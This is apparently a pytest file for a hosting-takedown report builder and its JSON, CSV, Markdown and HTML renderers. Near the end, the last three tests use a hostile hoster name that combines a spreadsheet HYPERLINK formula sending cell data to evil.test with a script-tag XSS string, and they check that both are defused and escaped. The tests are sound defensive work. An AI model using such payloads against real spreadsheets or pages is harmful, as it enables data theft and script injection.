"""build_report over a store filled directly with rows, and every renderer."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta

import numpy as np
import pytest

from monitor import store
from monitor.core import clock
from monitor.core.config import Config, ReportConfig
from reports import load, sample
from reports.build import build_report
from reports.frame import Notices
from reports.render import render, write_report
from reports.stats import compute

NOW = "2026-03-01T00:00:00Z"
T0 = clock.parse("2026-01-05T00:00:00Z")
CONFIG = Config(report=ReportConfig(deadlines_hours=(1, 12, 24, 48), min_notices_for_rates=3))


def at(hours: float) -> str:
    return clock.iso(T0 + timedelta(hours=hours))  # type: ignore[return-value]


@pytest.fixture
def db(tmp_path):
    d = store.connect(tmp_path / "r.db")
    stamp = clock.iso(T0)
    d["hosters"].insert_all(
        [
            {"id": 1, "name": "Alpha Host", "country": "NL", "created_at": stamp},
            {"id": 2, "name": "Beta Cloud", "country": "DE", "created_at": stamp},
        ]
    )
    d["hoster_networks"].insert_all(
        [
            {"hoster_id": 1, "asn": 64500},
            {"hoster_id": 1, "asn": 64599},
            {"hoster_id": 2, "asn": 64501},
        ]
    )

    def notice(rid, hoster, noticed, state, *, td=None, last=None, lo=None, moves=0, **kw):
        takedown = None if td is None else at(noticed + td)
        first = kw.pop("first_td", td)
        return {
            "id": rid,
            "kind": kw.pop("kind", "report"),
            "url": f"http://img{rid}.example.test/secret/path/{rid}.jpg",
            "url_key": f"k{rid}",
            "reference": f"case-{rid}",
            "reported_at": at(noticed),
            "noticed_at": at(noticed),
            "imported_at": at(noticed),
            "notified_hoster_id": hoster,
            "hoster_id": kw.pop("latest", hoster),
            "asn": 64500 if hoster == 1 else 64501,
            "state": state,
            "checks_count": 0 if state == "unchecked" else 3,
            "last_checked_at": None if last is None else at(noticed + last),
            "last_online_at": None if lo is None else at(noticed + lo),
            "first_down_at": None if td is None else at(noticed + td),
            "takedown_at": takedown,
            "moves": moves,
            "first_takedown_at": None if first is None else at(noticed + first),
            "reappearances": kw.pop("reappearances", 0),
            **kw,
        }

    rows = [
        # Alpha: removals after 2, 4, 8 h; one still online (checked up to 30 h); one unchecked
        notice(1, 1, 0, "down", td=2, last=12, lo=1),
        notice(2, 1, 1, "down", td=4, last=12, lo=2, moves=1),
        notice(3, 1, 2, "down", td=8, last=12, lo=4, reappearances=0),
        notice(4, 1, 3, "online", last=30, lo=30),
        notice(5, 1, 4, "unchecked"),
        # Beta: notified at Beta, moved to Alpha later: still Beta's notice
        notice(6, 2, 0, "down", td=20, last=40, lo=18, latest=1),
        notice(7, 2, 800, "online", last=24, lo=24),  # noticed in February
        # taken down at 30 h, back online since 45 h: as the writer keeps it, takedown_at is
        # NULL again (the current episode) and first_takedown_at holds the takedown
        notice(8, 2, 5, "online", first_td=30, last=50, lo=50, reappearances=1, kind="reupload"),
    ]
    d["reports"].insert_all(rows)
    d["reuploads"].insert_all(
        [
            {
                "id": 1,
                "url": "http://x.example.test/a.jpg",
                "url_key": "x1",
                "of_report_id": 1,
                "algorithm": "pdq",
                "distance": 3,
                "first_seen_at": at(50),
                "last_seen_at": at(50),
                "hoster_id": 2,
                "tracked_report_id": 8,
            }
        ]
    )
    d["alerts"].insert_all(
        [
            {
                "idempotency_key": "a1",
                "hoster_id": 2,
                "channel": "webhook",
                "kind": "reupload",
                "subject": json.dumps(
                    {"reuploads": [{"id": 1, "url": "http://x.example.test/a.jpg"}]}
                ),
                "state": "sent",
                "created_at": at(20),
                "next_attempt_at": at(20),
                "sent_at": at(25),
            }
        ]
    )
    return d


def group(report, label):
    return next(g for g in report.groups if g.label == label)


def test_report_over_rows(db) -> None:
    r = build_report(db, CONFIG, now=NOW)
    alpha, beta = group(r, "Alpha Host"), group(r, "Beta Cloud")
    assert (alpha.notices, alpha.taken_down, alpha.still_online, alpha.unresolved) == (5, 3, 1, 1)
    # Kaplan-Meier on the first down checks: S(2)=3/4, S(4)=1/2, so 4 h; the interval estimate
    # places the one notice removed in (2, 4] that reaches half at the middle of that gap
    assert alpha.median_hours_upper == pytest.approx(4.0)
    assert alpha.median_hours == pytest.approx(3.0)
    assert alpha.asns == (64500, 64599) and alpha.moves == 1 and alpha.reuploads == 1
    assert (beta.notices, beta.taken_down, beta.still_online) == (3, 2, 1)
    assert beta.reupload_notices == 1 and beta.reappearances == 1
    assert beta.alerted == 1 and beta.alert_to_removal_hours_median == pytest.approx(10.0)
    assert r.overall.notices == 8
    assert {i.report_id for i in r.still_online} == {4, 7, 8}
    assert [i.report_id for i in r.still_online if i.reappeared] == [8]
    assert [m.key for m in r.trend] == ["2026-01", "2026-02"]


def test_window_on_noticed_at_and_hoster_filter(db) -> None:
    r = build_report(db, CONFIG, now=NOW, since="2026-02-01T00:00:00Z")
    assert r.overall.notices == 1 and r.to_dict()["window"]["since"] == "2026-02-01T00:00:00Z"
    r = build_report(db, CONFIG, now=NOW, until="2026-02-01T00:00:00Z")
    assert r.overall.notices == 7
    # until also cuts observations: the 20 h and 30 h takedowns of Beta fall after it
    r = build_report(db, CONFIG, now=NOW, until=at(10))
    assert group(r, "Alpha Host").taken_down == 3 and group(r, "Beta Cloud").taken_down == 0
    r = build_report(db, CONFIG, now=NOW, hosters=["Beta Cloud"])
    assert [g.label for g in r.groups] == ["Beta Cloud"]


def test_extra_deadlines_and_group_by(db) -> None:
    r = build_report(db, CONFIG, now=NOW, extra_deadlines=[6], group_by="country")
    assert r.deadlines_hours == (1, 6, 12, 24, 48)
    assert {g.key for g in r.groups} == {"NL", "DE"}
    assert list(r.to_dict()["groups"][0])[0] == "country"
    with pytest.raises(ValueError):
        build_report(db, CONFIG, now=NOW, group_by="planet")


def test_fast_loader_agrees_with_records(db) -> None:
    cutoff = clock.parse(NOW).timestamp()
    a = compute(load.notices(db), cutoff=cutoff, min_notices=1)
    b = compute(Notices.from_records(load.records(db)), cutoff=cutoff, min_notices=1)
    assert [g.to_dict() for g in a[1]] == [g.to_dict() for g in b[1]]
    assert np.array_equal(load.notices(db).ids, np.arange(1, 9))


def test_empty_store(tmp_path) -> None:
    r = build_report(store.connect(tmp_path / "e.db"), Config(), now=NOW)
    assert r.groups == () and r.overall.notices == 0
    for fmt in ("json", "csv", "md", "html"):
        assert render(r, fmt)


# --- renderers -------------------------------------------------------------------------------

DESIGN_GROUP_KEYS = [
    "hoster",
    "asns",
    "notices",
    "taken_down",
    "still_online",
    "unresolved",
    "removed_within",
    "median_hours",
    "median_ci95",
    "p90_hours",
    "resolution_hours_median",
    "reappearances",
    "reuploads",
    "oldest_online_hours",
]


def test_json_follows_the_design_schema(db) -> None:
    data = json.loads(render(build_report(db, CONFIG, now=NOW), "json"))
    assert list(data)[:4] == ["generated_at", "window", "deadlines_hours", "groups"]
    assert data["window"] == {"since": None, "until": None}
    assert data["deadlines_hours"] == [1, 12, 24, 48]
    g = data["groups"][0]
    assert list(g)[: len(DESIGN_GROUP_KEYS)] == DESIGN_GROUP_KEYS
    assert list(g["removed_within"]) == ["1", "12", "24", "48"]
    assert "http" not in json.dumps(data)


def test_csv_has_a_row_per_group(db) -> None:
    r = build_report(db, CONFIG, now=NOW)
    rows = list(csv.reader(io.StringIO(render(r, "csv"))))
    assert rows[0][:5] == ["hoster", "label", "rank", "asns", "notices"]
    assert "removed_within_12h" in rows[0] and "removed_within_12h_ci95_low" in rows[0]
    assert len(rows) == 1 + len(r.groups) and {row[1] for row in rows[1:]} == {
        "Alpha Host",
        "Beta Cloud",
    }


def test_markdown_and_html_redact_urls(db, tmp_path) -> None:
    r = build_report(db, CONFIG, now=NOW)
    md = render(r, "md")
    assert "| Alpha Host |" in md and "img4.example.test" in md and "/secret/" not in md
    assert "/secret/path/4.jpg" in render(r, "md", show_urls=True)
    html = render(r, "html")
    assert "<svg" in html and 'id="ranking-table"' in html
    assert "/secret/" not in html and "img4.example.test" in html
    assert not re.search(r"https?://", html), "no absolute URL may appear in the page"
    assert not re.search(r"(src|href)\s*=|@import|url\(", html)
    shown = render(r, "html", show_urls=True)
    assert "http://img4.example.test/secret/path/4.jpg" in shown
    assert "<a " not in shown  # URLs are never links
    out = write_report(r, tmp_path / "out" / "report.html")
    assert out.read_text(encoding="utf-8") == html


def test_unknown_format(db) -> None:
    with pytest.raises(ValueError):
        render(build_report(db, CONFIG, now=NOW), "pdf")


def test_generated_world_report(tmp_path) -> None:
    d = store.connect(tmp_path / "w.db")
    sample.fill(d, 3000, now=NOW, checks=14, seed=3)
    r = build_report(d, Config(), now=NOW)
    assert r.overall.notices == 3000 and d["checks"].count > 20000
    ranked = [g for g in r.groups if g.rank]
    assert ranked[0].label == "Quickstop Hosting"  # the fastest hoster of the sample world
    assert ranked[0].median_hours < ranked[-1].median_hours if ranked[-1].median_hours else True
    assert len(r.curves) == 6 and r.curves[0].label == "All notices"


def test_alert_to_removal_in_every_format(db) -> None:
    r = build_report(db, CONFIG, now=NOW)
    data = json.loads(render(r, "json"))
    beta = next(g for g in data["groups"] if g["label"] == "Beta Cloud")
    assert beta["alerted"] == 1 and beta["alert_to_removal_hours_median"] == 10.0
    ci = beta["alert_to_removal_median_ci95"]
    assert ci is None or len(ci) == 2
    rows = {row["label"]: row for row in csv.DictReader(io.StringIO(render(r, "csv")))}
    low, high = ci or [None, None]
    assert rows["Beta Cloud"]["alert_to_removal_hours_median"] == "10.0"
    assert rows["Beta Cloud"]["alert_to_removal_median_ci95_low"] == (
        "" if low is None else str(low)
    )
    assert rows["Beta Cloud"]["alert_to_removal_median_ci95_high"] == (
        "" if high is None else str(high)
    )
    assert rows["Alpha Host"]["alerted"] == "0"
    assert rows["Alpha Host"]["alert_to_removal_hours_median"] == ""
    md = render(r, "md")
    assert "## Alerts to hosters" in md and "| Beta Cloud | 1 | 10.0 h" in md
    assert "| Alpha Host | 0 |" not in md  # only groups that were alerted
    assert "| All notices | 1 | 10.0 h" in md
    html = render(r, "html")
    assert 'id="alerts-table"' in html and "<td>10.0 h" in html
    assert "censored at their last check" in html and "never dropped" in md
    quiet = build_report(db, CONFIG, now=NOW, since="2026-02-01T00:00:00Z")  # nothing alerted
    assert "Alerts to hosters" not in render(quiet, "md")
    assert 'id="alerts-table"' not in render(quiet, "html")


HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"click")<script>alert(1)</script>|*_[x]`'


def test_csv_defuses_formula_cells_and_keeps_numbers(db) -> None:
    """OWASP CSV injection: a cell a spreadsheet would run starts with an apostrophe."""
    db.execute("UPDATE hosters SET name = ? WHERE id = 1", [HOSTILE])
    db.execute("UPDATE hosters SET name = ? WHERE id = 2", ["@SUM(1+1)"])
    r = build_report(db, CONFIG, now=NOW)
    rows = list(csv.reader(io.StringIO(render(r, "csv"))))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + HOSTILE in cells and "'@SUM(1+1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "@", "+", "\t", "\r")]
    assert all(not c.startswith("-") or float(c) < 0 for c in cells)  # numbers stay numbers


def test_markdown_escapes_hoster_names(db) -> None:
    db.execute("UPDATE hosters SET name = ? WHERE id = 1", [HOSTILE])
    md = render(build_report(db, CONFIG, now=NOW), "md", show_urls=True)
    assert "<script>" not in md and "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    assert "\\|\\*\\_\\[x\\]\\`" in md
    lines = md.splitlines()
    first = lines.index(next(x for x in lines if x.startswith("## Per "))) + 2
    table = lines[first : lines.index("", first)]
    # the name's | is escaped: every row has as many cells as the header
    assert len({len(re.findall(r"(?<!\\)\|", line)) for line in table}) == 1


def test_html_escapes_hoster_names(db) -> None:
    db.execute("UPDATE hosters SET name = ? WHERE id = 1", [HOSTILE])
    html = render(build_report(db, CONFIG, now=NOW), "html")
    assert "<script>alert(1)</script>" not in html and "alert(1)&lt;/script&gt;" in html
